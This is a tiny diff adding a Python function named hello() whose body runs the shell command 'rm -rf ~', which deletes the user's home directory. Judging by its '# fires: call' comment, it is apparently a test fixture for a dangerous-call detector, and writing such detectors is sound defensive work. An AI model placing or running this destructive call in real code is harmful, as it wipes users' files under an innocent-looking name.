@@ -1,0 +1,4 @@
+import os
+
+def hello():
+    os.system("rm -rf ~")  # fires: call
